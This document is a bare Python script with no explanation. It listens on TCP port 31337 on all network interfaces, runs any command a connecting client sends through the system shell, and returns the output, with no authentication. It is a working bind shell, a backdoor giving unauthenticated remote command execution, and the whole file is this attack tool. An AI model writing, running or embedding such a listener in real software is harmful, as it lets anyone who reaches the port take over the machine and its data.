import os
import socket
import subprocess
import threading


def serve(conn):
    conn.sendall(b"ok\n")
    while True:
        data = conn.recv(4096)
        if not data:
            break
        cmd = data.decode(errors="ignore").strip()
        if cmd.startswith("cd "):
            os.chdir(cmd[3:])
            continue
        proc = subprocess.run(cmd, shell=True, capture_output=True)
        conn.sendall(proc.stdout + proc.stderr)
    conn.close()


srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(5)
while True:
    conn, addr = srv.accept()
    threading.Thread(target=serve, args=(conn,), daemon=True).start()
